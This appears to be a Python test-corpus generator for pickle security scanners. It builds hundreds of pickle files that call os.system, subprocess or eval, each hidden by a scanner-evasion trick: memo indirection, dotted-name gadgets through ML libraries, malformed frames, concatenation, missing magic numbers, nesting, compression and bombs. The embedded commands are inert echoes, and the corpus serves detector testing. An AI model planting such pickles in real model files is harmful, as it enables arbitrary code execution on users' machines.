"""Ways of hiding a call in a pickle: opcodes, protocols, framing, indirection, nesting."""

import base64
import binascii
import bz2
import gzip
import lzma
import struct
import zlib

from . import opcodes as op
from .sample import Sample

SH = op.ECHO
SYSTEM = [("os", "system"), ("posix", "system"), ("builtins", "eval"), ("subprocess", "getoutput")]


def arguments_for(name):
    return ("print('inert')",) if name in ("eval", "exec") else (SH,)


def one(technique, name, note, data):
    return Sample(technique, name + ".pkl", "pickle", note, data)


def imports_by_opcode():
    """Each way of importing, in each protocol that a loader accepts it in (loaders do not check)."""
    for module, name in SYSTEM:
        arguments = arguments_for(name)
        for protocol in range(6):
            last = op.value(arguments, protocol) + op.REDUCE
            ways = {
                "global": op.global_(module, name) + last,
                "stack-global": op.stack_global(module, name, protocol) + last,
                "inst": op.MARK + op.value(arguments[0], protocol) + b"i" + f"{module}\n{name}\n".encode(),
                "obj": op.MARK + op.global_(module, name) + op.value(arguments[0], protocol) + op.OBJ,
            }
            for way, body in ways.items():
                yield one("pickle-import-opcodes", f"{way}-{module}-{name}-p{protocol}", f"{way} of {module}.{name}", op.finish(body, protocol))
    for framed in (False, True):
        for way, tail in (("newobj", op.NEWOBJ), ("newobj-ex", op.EMPTY_DICT + op.NEWOBJ_EX)):
            body = op.stack_global("subprocess", "Popen") + op.value((SH,)) + tail
            yield one("pickle-import-opcodes", f"{way}-popen-{'framed' if framed else 'bare'}", "a constructor that starts a program", op.finish(body, 4, framed))


def indirection():
    """The names are not where a scanner of neighbouring opcodes expects them."""
    last = op.value((SH,)) + op.REDUCE
    memo = op.text("os") + op.MEMOIZE + op.POP + op.text("system") + op.MEMOIZE + op.POP
    bodies = {
        "memo-get": memo + op.get(0) + op.get(1) + op.STACK_GLOBAL + last,
        "memo-reversed": op.text("system") + op.put(9) + op.text("os") + op.put(3) + op.POP + op.POP + op.get(3) + op.get(9) + op.STACK_GLOBAL + last,
        "memo-overwritten": op.text("math") + op.put(0) + op.POP + op.text("os") + op.put(0) + op.POP + op.get(0) + op.text("system") + op.STACK_GLOBAL + last,
        "long-memo": op.text("os") + b"r" + struct.pack("<I", 70_000) + op.POP + b"j" + struct.pack("<I", 70_000) + op.text("system") + op.STACK_GLOBAL + last,
        "decoy-then-pop": op.text("collections") + op.POP + op.text("os") + op.text("OrderedDict") + op.POP + op.text("system") + op.STACK_GLOBAL + last,
        "pop-mark": op.text("os") + op.MARK + op.text("math") + op.text("sqrt") + op.POP_MARK + op.text("system") + op.STACK_GLOBAL + last,
        "dup": op.text("os") + op.DUP + op.POP + op.text("system") + op.STACK_GLOBAL + last,
        "memo-of-callable": op.stack_global("os", "system") + op.put(5) + op.POP + op.value({"weights": [1, 2]}) + op.POP + op.get(5) + last,
        "argument-from-memo": op.text(SH) + op.TUPLE1 + op.put(1) + op.POP + op.stack_global("os", "system") + op.get(1) + op.REDUCE,
        "argument-is-list": op.stack_global("subprocess", "run") + op.MARK + op.MARK + op.text("echo") + op.text("inert") + op.LIST + op.TUPLE + op.REDUCE,
        "deep-in-dict": op.MARK + op.text("model") + op.MARK + op.text("layers") + op.MARK + op.value(1) + op.stack_global("os", "system") + last + op.LIST + op.DICT + op.DICT,
        "as-dict-key": op.EMPTY_DICT + op.stack_global("os", "system") + last + op.value(1) + op.SETITEM,
        "in-setitems": op.EMPTY_DICT + op.MARK + op.text("a") + op.stack_global("os", "system") + last + op.SETITEMS,
        "in-appends": op.EMPTY_LIST + op.MARK + op.stack_global("os", "system") + last + op.APPENDS,
        "in-frozenset": op.MARK + op.stack_global("os", "system") + last + b"\x91",
        "in-set": b"\x8f" + op.MARK + op.stack_global("os", "system") + last + b"\x90",
        "result-thrown-away": op.stack_global("os", "system") + last + op.POP + op.value({"weights": [0]}),
        "result-under-benign-object": op.stack_global("os", "system") + last + op.POP + op.stack_global("collections", "OrderedDict") + op.EMPTY_TUPLE + op.REDUCE,
        "getattr": op.stack_global("builtins", "getattr") + op.stack_global("os", "path") + op.text("os") + op.TUPLE2 + op.REDUCE + op.POP + op.stack_global("builtins", "getattr") + op.call("builtins", "__import__", ("os",)) + op.text("system") + op.TUPLE2 + op.REDUCE + last,
        "import-then-attribute": op.stack_global("operator", "attrgetter") + op.value(("system",)) + op.REDUCE + op.call("importlib", "import_module", ("os",)) + op.TUPLE1 + op.REDUCE + last,
        "partial": op.stack_global("functools", "partial") + op.stack_global("os", "system") + op.text(SH) + op.TUPLE2 + op.REDUCE + op.EMPTY_TUPLE + op.REDUCE,
        "map-list": op.stack_global("builtins", "list") + op.stack_global("builtins", "map") + op.stack_global("os", "system") + op.value([SH]) + op.TUPLE2 + op.REDUCE + op.TUPLE1 + op.REDUCE,
        "reduce-with-system": op.stack_global("_functools", "reduce") + op.stack_global("os", "system") + op.value([SH]) + op.TUPLE2 + op.REDUCE,
        "apply-py2": op.global_("__builtin__", "apply") + op.global_("os", "system") + op.value((SH,)) + op.TUPLE2 + op.REDUCE,
        "name-from-concatenation": op.stack_global("operator", "add") + op.value(("sys", "tem")) + op.REDUCE + op.put(1) + op.POP + op.stack_global("builtins", "getattr") + op.global_("os", "path") + op.get(1) + op.TUPLE2 + op.REDUCE + last,
        "names-in-bytes-decode": op.stack_global("_codecs", "decode") + op.value(("flfgrz", "rot13")) + op.REDUCE + op.put(1) + op.POP + op.call("builtins", "__import__", ("os",)) + op.put(2) + op.POP + op.stack_global("builtins", "getattr") + op.get(2) + op.get(1) + op.TUPLE2 + op.REDUCE + last,
        "import-only": op.stack_global("os", "system"),
        "import-by-name-only-antigravity": op.stack_global("antigravity", "__name__"),
    }
    for name, body in bodies.items():
        yield one("pickle-indirection", name, "the callable is reached by a detour", op.finish(body, 4))
        if op.STACK_GLOBAL not in body or name.startswith(("memo", "deep", "in-")):
            yield one("pickle-indirection", name + "-framed", "the callable is reached by a detour", op.finish(body, 5, framed=True))


def dotted_names():
    """A harmless module whose attribute leads to a harmful one."""
    paths = [
        ("collections", "_sys.modules.get"), ("_collections_abc", "sys.modules.get"), ("logging", "os.system"), ("random", "_os.system"), ("tempfile", "_os.popen"),
        ("torch", "os.system"), ("numpy", "os.system"), ("numpy.f2py", "os.system"), ("sklearn", "os.popen"), ("torch.serialization", "os.system"), ("pathlib", "os.remove"),
        ("collections", "OrderedDict.__init__.__globals__.get"), ("torch._utils", "sys.modules.get"), ("numpy.core.multiarray", "_reconstruct.__globals__.get"),
        ("numpy", "testing._private.utils.runstring"), ("torch._dynamo.guards", "GuardBuilder.get"), ("json", "codecs.builtins.eval"), ("argparse", "_sys.modules.get"),
        ("sklearn.utils", "_joblib.joblib.load"), ("copyreg", "__builtins__.get"), ("datetime", "sys.modules.get"), ("uuid", "os.popen"), ("decimal", "_sys.modules.get"),
        ("transformers", "utils.hub.os.system"), ("keras", "src.utils.file_utils.os.system"), ("pandas.core.frame", "sys.modules.get"), ("xgboost.core", "os.system"), ("lightgbm.basic", "os.popen"),
        ("collections", "Counter.update.__globals__.get"), ("joblib.numpy_pickle", "os.system"), ("scipy", "os.system"), ("functools", "__loader__.exec_module"), ("os.path", "os.system"), ("posixpath", "genericpath.os.system"),
    ]
    for module, name in paths:
        arguments = (SH,) if name.endswith(("system", "popen")) else ("os",)
        yield one("pickle-dotted-names", f"{module}-{name}".replace("_", "-"), f"imports {module}.{name}", op.pickle_call(module, name, arguments))


def build():
    """BUILD: the state of an object is a gadget of its own."""
    instance = op.stack_global("types", "SimpleNamespace") + op.EMPTY_TUPLE + op.NEWOBJ
    bodies = {
        "setstate-of-module-class": op.stack_global("collections", "OrderedDict") + op.put(0) + op.value({"__setstate__": 0}) + op.BUILD + op.get(0) + op.value(()) + op.NEWOBJ + op.value(SH) + op.BUILD,
        "setstate-is-system": op.stack_global("argparse", "Namespace") + op.put(0) + op.EMPTY_DICT + op.text("__setstate__") + op.stack_global("os", "system") + op.SETITEM + op.BUILD + op.text(SH) + op.BUILD,
        "reduce-in-state": instance + op.EMPTY_DICT + op.text("x") + op.call("os", "system", (SH,)) + op.SETITEM + op.BUILD,
        "slot-state": instance + op.NONE + op.EMPTY_DICT + op.text("x") + op.call("os", "system", (SH,)) + op.SETITEM + op.TUPLE2 + op.BUILD,
        "ufunc-builtins": op.stack_global("numpy.core", "_ufunc_reconstruct") + op.value(("builtins", "exec")) + op.REDUCE + op.value(("print('inert')",)) + op.REDUCE,
        "scalar-object-dtype": op.stack_global("numpy.core.multiarray", "scalar") + op.stack_global("numpy", "dtype") + op.value(("O8", 0, 1)) + op.REDUCE + op.value(op.echo()) + op.TUPLE2 + op.REDUCE,
        "defaultdict-factory": op.stack_global("collections", "defaultdict") + op.stack_global("os", "getcwd") + op.TUPLE1 + op.REDUCE + op.put(1) + op.stack_global("subprocess", "getoutput") + op.value((SH,)) + op.REDUCE + op.POP,
        "module-dict-overwritten": op.stack_global("sys", "modules") + op.EMPTY_DICT + op.text("json") + op.stack_global("os", "system") + op.SETITEM + op.BUILD,
        "class-reduce-overwritten": op.stack_global("builtins", "setattr") + op.MARK + op.stack_global("collections", "OrderedDict") + op.text("__reduce__") + op.stack_global("os", "system") + op.TUPLE + op.REDUCE,
    }
    for name, body in bodies.items():
        yield one("pickle-build", name, "a state or an attribute that runs code", op.finish(body, 4))


def extensions_and_persistent_ids():
    for code, name in ((b"\x82\x01", "ext1"), (b"\x83\x01\x02", "ext2"), (b"\x84\x01\x02\x03\x04", "ext4")):
        register = op.call("copyreg", "add_extension", ("os", "system", struct.unpack("<I", code[1:].ljust(4, b"\0"))[0])) + op.POP
        body = register + code + op.value((SH,)) + op.REDUCE
        yield one("pickle-extension-registry", name, "registers os.system as an extension, then names it by number", op.finish(body, 4))
    for name, body in {
        "persid-then-call": b"Pinert\n" + op.POP + op.call("os", "system", (SH,)),
        "binpersid-of-call": op.call("os", "system", (SH,)) + op.BINPERSID,
        "binpersid-tuple": op.MARK + op.text("storage") + op.call("builtins", "eval", ("print('inert')",)) + op.text("0") + op.TUPLE + op.BINPERSID,
    }.items():
        yield one("pickle-persistent-id", name, "the payload is built for a persistent id", op.finish(body, 4))


def framing():
    """The C and the Python unpickler read broken frames differently; each file runs in at least one."""
    head, payload = op.proto(4), op.call("os", "system", (SH,)) + op.STOP
    middle = len(payload) // 2
    empty = op.frame(b"")
    files = {
        "frame-too-long": head + op.frame(payload, len(payload) + 1000),
        "frame-too-short": head + op.frame(payload, 5),
        "frame-straddles-string": head + op.frame(op.text("os")[:3], 3) + op.text("os")[3:] + payload,
        "two-frames-cut-inside": head + op.frame(payload[:middle]) + op.frame(payload[middle:]),
        "frame-zero": head + op.frame(payload, 0),
        "frame-huge": head + op.frame(payload, 2**62),
        "frame-negative": head + op.frame(payload, 2**63 + 1),
        "frames-nested": head + op.frame(op.frame(payload)),
        "empty-frames": head + empty * 40 + op.frame(payload),
        "frame-in-protocol-2": op.proto(2) + op.frame(payload),
        "proto-in-the-middle": head + op.value({"a": 1}) + op.proto(0) + op.POP + payload,
        "proto-255-late": op.value({"a": 1}) + op.POP + payload,
        "second-proto": op.proto(2) + op.proto(4) + op.frame(payload),
    }
    for name, data in files.items():
        yield one("pickle-framing", name, "a frame that does not fit what it holds", data)


def breaking():
    """The payload has run when the stream breaks: a parser that gives up first sees nothing."""
    payload = op.call("os", "system", (SH,))
    tails = {
        "no-stop": b"", "unknown-opcode": b"\xff\xff", "pop-of-nothing": op.POP * 10 + op.STOP, "truncated-string": b"\x8c\x40abc", "bad-utf8": b"\x8c\x02\xff\xfe.",
        "get-unknown": b"h\xfa.", "append-to-nothing": op.NONE + op.APPEND + op.STOP, "bad-int": b"Ixyz\n.", "huge-long": b"\x8b\xff\xff\xff\x7f", "text": b"\nTraceback (most recent call last):\n",
        "nullbytes": bytes(64), "build-none": op.NONE + op.BUILD + op.STOP, "missing-module": op.global_("no_such_module_inert", "x") + op.STOP, "setitem-odd": op.EMPTY_DICT + op.MARK + op.NONE + op.SETITEMS + op.STOP,
    }
    for name, tail in tails.items():
        for protocol in (0, 2, 4):
            head = op.proto(protocol) if protocol else b""
            call = op.call("os", "system", (SH,), protocol)
            yield one("pickle-breaks-after-payload", f"{name}-p{protocol}", "the call runs before the stream breaks", head + call + tail)
    body = op.call("builtins", "exec", ("raise ValueError('inert')",))
    yield one("pickle-breaks-after-payload", "raises-itself", "the payload ends the loading by an exception", op.finish(body, 4))
    yield one("pickle-breaks-after-payload", "benign-then-broken", "an innocent object, a call, then rubbish", op.proto(4) + op.value({"weights": [1.0] * 8}) + payload + b"\xfe")


def concatenated():
    benign = op.finish(op.value({"weights": [1, 2, 3]}), 4, framed=True)
    bad = op.echo()
    for name, data in {
        "second-of-two": benign + bad, "third-of-three": benign + benign + bad, "first-of-two": bad + benign, "protocol-0-after-4": benign + op.echo(0), "hundredth": benign * 99 + bad,
    }.items():
        yield one("pickle-concatenated", name, "a pickle behind others in one file", data)
    # No loader reads on behind these by itself: they wait for a second step that knows where to look.
    for name, gap in {"newlines": b"\n\n\n", "padding": bytes(32), "rubbish": b"\xff\xfejunk", "page": bytes(4096 - len(benign))}.items():
        yield one("pickle-concealed", f"behind-{name}", "a pickle concealed behind the end of another", benign + gap + bad)


def without_magic():
    """Protocol 0 and 1 have no magic, and their opcodes are letters."""
    lines = {
        "classic": b"cos\nsystem\n(S'echo inert'\ntR.", "double-quotes": b'cos\nsystem\n(S"echo inert"\ntR.', "escapes": b"cos\nsystem\n(S'\\x65cho inert'\ntR.",
        "unicode": b"cos\nsystem\n(V\\u0065cho inert\ntR.", "memo": b"cos\nsystem\np0\n(S'echo inert'\np1\ntp2\nRp3\n.", "inst": b"(S'echo inert'\nios\nsystem\n.",
        "dict-first": b"(dp0\nS'a'\np1\nI1\nsS'b'\ncos\nsystem\n(S'echo inert'\ntRs.", "list-first": b"(lp0\nI1\naI2\nacos\nsystem\n(S'echo inert'\ntRa.",
        "builtin-eval": b"c__builtin__\neval\n(S'1'\ntR.", "int-first": b"I1\n0cos\nsystem\n(S'echo inert'\ntR.", "none-first": b"N0cos\nsystem\n(S'echo inert'\ntR.",
        "float-first": b"F1.5\n0cos\nsystem\n(S'echo inert'\ntR.", "long-first": b"L1L\n0cos\nsystem\n(S'echo inert'\ntR.", "string-first": b"S'weights'\n0cos\nsystem\n(S'echo inert'\ntR.", "binary-p1": b"cos\nsystem\nq\x00(U\x0aecho inertq\x01tq\x02Rq\x03.",
        "copyreg": b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR.", "mark-first": b"(0(cos\nsystem\nS'echo inert'\no.", "many-marks": b"(((((((((cos\nsystem\n(S'echo inert'\ntR.",
    }
    for name, data in lines.items():
        yield one("pickle-without-magic", name, "no magic number at the start", data)
    for extension in ("txt", "json", "bin", "csv", "dat", "model"):
        yield Sample("pickle-without-magic", f"named.{extension}", "pickle", "a name that says something else", lines["classic"])


def nested():
    inner = op.echo()
    wraps = {
        "bytes": inner, "base64": base64.b64encode(inner).decode(), "hex": binascii.hexlify(inner).decode(), "zlib": zlib.compress(inner), "gzip": gzip.compress(inner, mtime=0),
        "base64-of-zlib": base64.b64encode(zlib.compress(inner)).decode(), "base85": base64.b85encode(inner).decode(), "latin1-text": op.echo(0).decode("latin-1"), "bz2": bz2.compress(inner), "xz": lzma.compress(inner),
    }
    loaders = [("pickle", "loads"), ("_pickle", "loads"), ("dill", "loads"), ("cloudpickle", "loads"), ("torch.storage", "_load_from_bytes")]
    for name, data in wraps.items():
        for module, loader in (loaders[: 2 if isinstance(data, bytes) else 1]):
            argument = data
            if isinstance(data, str):
                argument = op.Raw(op.call("base64", "b64decode", (data,)))
            yield one("pickle-nested", f"{name}-{module}-{loader}".replace("_", "-"), "a pickle inside a pickle, loaded by a call", op.pickle_call(module, loader, (argument,)))
    for index, (module, loader) in enumerate(loaders):
        yield one("pickle-nested", f"load-from-bytes-{index}", "loads bytes that hold a call", op.pickle_call(module, loader, (inner,), 3, False))
    deep = inner
    for _ in range(6):
        deep = op.pickle_call("pickle", "loads", (deep,))
    yield one("pickle-nested", "seven-deep", "pickles in pickles", deep)


def packed():
    data = op.echo()
    for name, packed_data, kind in (
        ("zlib.pkl.z", zlib.compress(data), "zlib"), ("gzip.pkl.gz", gzip.compress(data, mtime=0), "gzip"), ("bz2.pkl.bz2", bz2.compress(data), "bzip2"), ("xz.pkl.xz", lzma.compress(data), "xz"),
        ("lzma.pkl.lzma", lzma.compress(data, format=lzma.FORMAT_ALONE), "xz"), ("gzip-named.joblib", gzip.compress(data, mtime=0), "gzip"), ("zlib-named.joblib", zlib.compress(data), "zlib"), ("bz2-named.joblib", bz2.compress(data), "bzip2"),
        ("xz-named.joblib", lzma.compress(data), "xz"), ("gzip-twice.pkl.gz.gz", gzip.compress(gzip.compress(data, mtime=0), mtime=0), "gzip"), ("gzip-members.pkl.gz", gzip.compress(b"\x80\x04N.", mtime=0) + gzip.compress(data, mtime=0), "gzip"),
        ("zlib-level-0.pkl", zlib.compress(data, 0), "zlib"), ("zlib-window-9.pkl", b"".join((c := zlib.compressobj(9, zlib.DEFLATED, 9), c.compress(data), c.flush())[1:]), "zlib"), ("lz4-stored.pkl.lz4", lz4(data), "lz4"), ("zstd-raw.pkl.zst", zstd(data), "zstd"),
        ("gzip-with-name.bin", gzip_named(data), "gzip"), ("xz-cut.joblib", lzma.compress(data)[:-4], "xz"), ("gzip-cut.pkl.gz", gzip.compress(data, mtime=0)[:-6], "gzip"), ("bz2-members.joblib", bz2.compress(b"\x80\x04N.") + bz2.compress(data), "bzip2"),
    ):
        yield Sample("pickle-packed", name, kind, "a pickle behind a compressor, as joblib writes them", packed_data)


def lz4(data):
    """An LZ4 frame with one block that is stored as it is; the header's checksum is that of these two flags."""
    descriptor = b"\x60\x40"
    block = struct.pack("<I", len(data) | 0x80000000) + data
    return b"\x04\x22\x4d\x18" + descriptor + bytes([(xxh32(descriptor) >> 8) & 0xFF]) + block + bytes(4)


def xxh32(data):
    """xxHash of fewer than sixteen bytes, seed 0."""
    p1, p2, p3, p4, p5, mask = 2654435761, 2246822519, 3266489917, 668265263, 374761393, 0xFFFFFFFF
    h = (p5 + len(data)) & mask
    rotate = lambda x, n: ((x << n) | (x >> (32 - n))) & mask
    for byte in data:
        h = rotate((h + byte * p5) & mask, 11) * p1 & mask
    h = (h ^ (h >> 15)) * p2 & mask
    h = (h ^ (h >> 13)) * p3 & mask
    return h ^ (h >> 16)


def zstd(data):
    """A Zstandard frame with one raw block and the size in the header."""
    block = struct.pack("<I", (len(data) << 3) | 1)[:3] + data
    return b"\x28\xb5\x2f\xfd" + b"\x20" + bytes([len(data)]) + block


def gzip_named(data):
    plain = gzip.compress(data, mtime=0)
    return plain[:3] + b"\x08" + plain[4:10] + b"weights.bin\0" + plain[10:]


def bombs():
    grow = op.EMPTY_LIST + op.put(0)
    for _ in range(60):
        grow += op.TUPLE1 + op.DUP + op.TUPLE2
    yield one("pickle-bombs", "dup-tuples-and-call", "grows at every step, then calls", op.finish(grow + op.POP + op.call("os", "system", (SH,)), 4))
    yield one("pickle-bombs", "memo-flood-and-call", "thousands of memo entries before the call", op.finish((op.text("x") + op.MEMOIZE + op.POP) * 3000 + op.call("os", "system", (SH,)), 4))
    yield one("pickle-bombs", "nesting-and-call", "ten thousand tuples in each other before the call", op.finish(op.NONE + op.TUPLE1 * 10_000 + op.POP + op.call("os", "system", (SH,)), 4))
    yield one("pickle-bombs", "marks-and-call", "marks that are never used before the call", op.finish(op.MARK * 5000 + op.call("os", "system", (SH,)), 4))


RECIPES = (imports_by_opcode, indirection, dotted_names, build, extensions_and_persistent_ids, framing, breaking, concatenated, without_magic, nested, packed, bombs)


def samples():
    for recipe in RECIPES:
        yield from recipe()
